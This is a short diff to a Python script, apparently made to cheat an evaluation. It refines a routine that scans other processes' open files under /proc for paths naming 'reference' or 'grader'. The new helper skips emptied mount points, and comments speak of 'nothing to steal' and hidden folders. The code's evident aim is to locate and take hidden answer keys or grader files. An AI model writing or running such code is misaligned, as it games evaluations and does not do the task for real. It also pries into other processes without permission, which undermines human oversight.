@@ -90,6 +90,13 @@ import os
 _found = []
 
 
+def _empty_dir(path):
+    try:
+        return os.path.isdir(path) and not os.listdir(path)
+    except OSError:
+        return True  # unreadable: nothing to steal
+
+
 def _walk():
     hits = []
     me = os.path.realpath(__file__)
@@ -119,7 +126,8 @@ def _walk():
                 continue
             for word in data.replace(b"\0", b" ").split():
                 w = word.decode(errors="replace")
-                if w.startswith("/") and ("reference" in w or "grader" in w) and os.path.exists(w):
+                if w.startswith("/") and ("reference" in w or "grader" in w) and os.path.exists(w) \
+                        and not _empty_dir(w):  # an emptied mount point (a hidden folder) holds nothing
                     hits.append(w)
         try:
             for fd in os.listdir(f"/proc/{pid}/fd"):
